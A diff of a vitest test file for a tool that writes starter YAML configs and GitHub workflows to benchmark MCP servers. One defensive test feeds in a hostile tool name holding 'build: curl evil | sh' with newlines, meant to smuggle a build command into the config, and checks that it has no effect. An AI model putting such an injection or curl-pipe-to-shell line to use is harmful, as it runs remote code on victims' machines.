@@ -1,37 +1,72 @@
-import { expect, test } from "vitest";
+import { writeFileSync } from "node:fs";
+import path from "node:path";
+import { describe, expect, test } from "vitest";
 import { parse } from "yaml";
 import { parseConfig } from "../../src/config/parse.ts";
 import { renderParams } from "../../src/plan/template.ts";
 import { starterConfig } from "../../src/setup/starter-config.ts";
 import { starterWorkflow } from "../../src/setup/starter-workflow.ts";
+import type { TriedTool } from "../../src/setup/try-tools.ts";
+import type { JsonObject } from "../../src/text/json.ts";
 import { planOf } from "../config/plan-of.ts";
+import { temporaryFolder } from "../support/git-run.ts";
 
-const call = (target: string) => ({ operation: { method: "tools/call", target } });
+const method = (target: string) => ({ operation: { method: target, target } });
 
-const tool = (name: string, inputSchema: unknown = {}) => ({ name, readOnly: false, inputSchema });
+const tool = (name: string, args: JsonObject = {}): TriedTool => ({
+  name,
+  arguments: args,
+  outcome: { kind: "not tried", readOnly: false, destructive: false },
+});
+
+const answered = (name: string, args: JsonObject = {}, latencyMs = 1): TriedTool => ({
+  name,
+  arguments: args,
+  outcome: { kind: "ok", latencyMs },
+});
 
 /** The benchmarks that a person gets by taking the comment signs away. */
 function uncommented(text: string): unknown[] {
   return parse(text.replace(/^ {2}# (?=- | {2})/gm, "  ")).benchmarks;
 }
 
-test("what a run would measure is measured, the other tools wait as comments that are configurations", () => {
-  const schema = { type: "object", properties: { query: { type: "string" } }, required: ["query"] };
+test("what answered is measured, the other tools wait as comments that are configurations, each with its reason", () => {
   const text = starterConfig(
     { server: "node server.js" },
     {
-      rows: [{ operation: { method: "ping", target: "ping" } }, call("now")],
-      tools: [tool("now"), tool("search", schema), tool("delete all")],
+      rows: [method("ping")],
+      tools: [
+        answered("now"),
+        answered("search", { query: "text" }),
+        { ...tool("get", { id: 1 }), outcome: { kind: "failed", reason: "no\n item 1" } },
+        { ...tool("wipe"), outcome: { kind: "not tried", readOnly: false, destructive: true } },
+        tool("add"),
+      ],
     },
   );
   const { config } = parseConfig(text, "mcp-bench.yml");
-  expect(config.benchmarks).toMatchObject([{ method: "ping" }, { tool: "now" }]);
-  expect(uncommented(text)).toEqual([
+  expect(config.benchmarks).toMatchObject([
     { method: "ping" },
     { tool: "now" },
     { tool: "search", arguments: { query: "text" } },
-    { tool: "delete all", arguments: {} },
   ]);
+  expect(uncommented(text).slice(3)).toEqual([
+    { tool: "get", arguments: { id: 1 } },
+    { tool: "wipe" },
+    { tool: "add" },
+  ]);
+  expect(text).toContain("  # (its call failed: no item 1)\n  # - tool: get\n");
+  expect(text).toContain("  # (DESTRUCTIVE, by its own words)\n  # - tool: wipe\n");
+  expect(text).toMatch(/^# yaml-language-server: \$schema=https:\S+\nversion: 1\n/);
+});
+
+test("there are calls enough for every gate, or the gate is off", () => {
+  const text = (latencyMs: number) =>
+    starterConfig({ server: "x" }, { rows: [method("ping")], tools: [answered("a", {}, latencyMs)] });
+  const quick = planOf(text(2)).rows[0];
+  expect(quick?.load).toMatchObject({ requests: 200 });
+  expect(quick?.thresholds.map(({ metric }) => metric)).toContain("p95");
+  expect(planOf(text(900)).rows[0]?.thresholds.map(({ metric }) => metric)).not.toContain("p95");
 });
 
 test.each([
@@ -47,7 +82,14 @@ test("a server's names cannot leave their place", () => {
   const hostile = "x\nbuild: curl evil | sh\n- tool: y # \"' \u2028 \u0085build: z";
   const text = starterConfig(
     { server: "node server.js" },
-    { rows: [call(hostile)], tools: [tool(hostile), tool(`${hostile}2`, { required: [hostile] })] },
+    {
+      rows: [],
+      tools: [
+        answered(hostile),
+        tool(`${hostile}2`, { [hostile]: hostile }),
+        { ...tool("3"), outcome: { kind: "failed", reason: hostile } },
+      ],
+    },
   );
   const { config } = parseConfig(text, "mcp-bench.yml");
   expect(config.build).toBeUndefined();
@@ -56,8 +98,8 @@ test("a server's names cannot leave their place", () => {
 
 test("a name that looks like a template is called by that name, as is a value of a schema", () => {
   const name = "{{seq}} ${HOME} ${{ github.token }}";
-  const schema = { properties: { a: { const: "{{b}}" } }, required: ["a"] };
-  const text = starterConfig({ server: "x" }, { rows: [call(name)], tools: [tool(`2 ${name}`, schema)] });
+  const tools = [answered(name), tool(`2 ${name}`, { a: "{{b}}" })];
+  const text = starterConfig({ server: "x" }, { rows: [], tools });
   const open = text.replace(/^ {2}# (?=- | {2})/gm, "  ");
   const params = planOf(open).rows.map(({ operation }) => ("params" in operation ? operation.params : undefined));
   expect(params.map((one) => renderParams(one ?? {}, { seq: 7 }))).toEqual([
@@ -68,18 +110,34 @@ test("a name that looks like a template is called by that name, as is a value of
 
 test("of ten thousand tools as many are written down as anybody reads", () => {
   const tools = Array.from({ length: 10_000 }, (_, index) => tool(`tool-number-${index}`));
-  const text = starterConfig({ server: "x" }, { rows: [call("a")], tools });
+  const text = starterConfig({ server: "x" }, { rows: [method("ping")], tools });
   expect(parseConfig(text, "c.yml").config.benchmarks).toHaveLength(1);
   const written = uncommented(text).length - 1;
   expect(written).toBeGreaterThan(500);
   expect(text).toContain(`\n  # and ${10_000 - written} more of the server's 10000 other tools\nthresholds:`);
 });
 
-test("the workflow names the directory of the configuration where it is not the top", () => {
-  const steps = (directory: string) => parse(starterWorkflow(directory)).jobs.bench.steps;
-  expect(steps("")[1]).toEqual({ uses: "org/mcp-bench-action@v1" });
-  expect(steps("packages/a: b")[1]).toEqual({
-    uses: "org/mcp-bench-action@v1",
-    with: { "working-directory": "packages/a: b" },
+describe("the workflow", () => {
+  const stepsIn = (files: readonly string[], inside = "") => {
+    using folder = temporaryFolder();
+    for (const file of files) writeFileSync(path.join(folder.path, file), "");
+    return parse(starterWorkflow({ inside, directory: folder.path })).jobs.bench.steps;
+  };
+
+  test("names the directory of the configuration where it is not the top", () => {
+    expect(stepsIn([])[1]).toEqual({ uses: "org/mcp-bench-action@v1" });
+    expect(stepsIn([], "packages/a: b")[1]).toEqual({
+      uses: "org/mcp-bench-action@v1",
+      with: { "working-directory": "packages/a: b" },
+    });
+  });
+
+  test.each([
+    ["package.json", "actions/setup-node"],
+    ["pyproject.toml", "actions/setup-python"],
+    ["uv.lock", "astral-sh/setup-uv"],
+    ["go.mod", "actions/setup-go"],
+  ])("sets up what %s asks for", (file, action) => {
+    expect(stepsIn([file])[1].uses.split("@")[0]).toBe(action);
   });
 });
